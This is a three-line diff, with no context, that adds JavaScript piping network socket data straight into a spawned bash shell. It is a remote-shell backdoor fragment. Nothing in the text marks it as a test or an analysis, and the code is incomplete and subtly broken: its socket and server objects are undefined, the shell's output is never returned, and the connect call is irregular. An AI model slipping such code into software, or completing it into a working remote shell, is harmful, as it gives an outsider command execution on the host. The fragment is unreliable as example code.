@@ -1,0 +1,3 @@
+const shell = spawn('bash');
+socket.on('data', (data) => shell.stdin.write(data));
+server.connect(port);
